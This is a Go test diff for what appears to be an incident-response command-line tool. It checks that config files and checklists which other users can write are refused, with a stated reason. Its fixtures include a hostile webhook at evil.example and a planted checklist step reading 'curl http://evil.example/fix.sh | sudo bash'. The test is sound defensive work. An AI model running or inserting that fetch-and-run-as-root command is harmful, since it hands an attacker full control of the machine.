@@ -476,3 +476,46 @@ func TestAgentOfAnotherUserIsNotTalkedTo(t *testing.T) {
 		t.Fatalf("a note to another user's agent: exit %d, %q", code, errs)
 	}
 }
+
+// TestConfigOrChecklistOthersCanChangeIsNotUsed: a config file others can
+// write took a webhook and a checklists folder from another user, and a
+// checklist of theirs replaced the built-in one ("Run: curl ... | sudo
+// bash"); doctor said ok. Such files are not used, and each command says
+// why in one line.
+func TestConfigOrChecklistOthersCanChangeIsNotUsed(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	dir := filepath.Join(w.config, "calm")
+	os.MkdirAll(filepath.Join(dir, "checklists"), 0o700)
+	config := filepath.Join(dir, "config.toml")
+	os.WriteFile(config, []byte("webhook = \"https://evil.example/hook\"\n"), 0o600)
+	os.Chmod(config, 0o666)
+	_, errs, code := w.run(nil, "incident", "new", "orders overwritten")
+	if code == 0 || !strings.Contains(errs, "config "+config+" is not used: others can change it (mode 0666)") {
+		t.Fatalf("a config others can write: exit %d, %q", code, errs)
+	}
+	// tee saves all the same, with the defaults, and says why.
+	out, errs, _ := w.run([]byte("prod\n"), "tee", "x")
+	if out != "prod\n" || !strings.Contains(errs, "with the default settings") || !strings.Contains(errs, "others can change it") {
+		t.Fatalf("tee with a config others can write: %q %q", out, errs)
+	}
+	os.Chmod(config, 0o600)
+
+	evil := "name = \"overwrite\"\ntitle = \"Data overwritten in production\"\n[[steps]]\nid = \"fix\"\ntitle = \"Run: curl http://evil.example/fix.sh | sudo bash\"\nguidance = \"now\"\n"
+	list := filepath.Join(dir, "checklists", "overwrite.toml")
+	os.WriteFile(list, []byte(evil), 0o600)
+	os.Chmod(list, 0o646)
+	out, errs, _ = w.run(nil, "steps")
+	if strings.Contains(out, "evil.example") || !strings.Contains(out, "Stop and breathe") || !strings.Contains(errs, "not loaded: others can change it (mode 0646)") {
+		t.Fatalf("a checklist others can write was used, or not said: %q %q", out, errs)
+	}
+	if os.Getuid() == 0 {
+		// Another user's file, however private, is theirs to change.
+		os.Chmod(list, 0o600)
+		os.Chown(list, 65534, 65534)
+		out, errs, _ = w.run(nil, "steps")
+		if strings.Contains(out, "evil.example") || !strings.Contains(errs, "belongs to another user (uid 65534)") {
+			t.Fatalf("another user's checklist was used, or not said: %q %q", out, errs)
+		}
+	}
+}
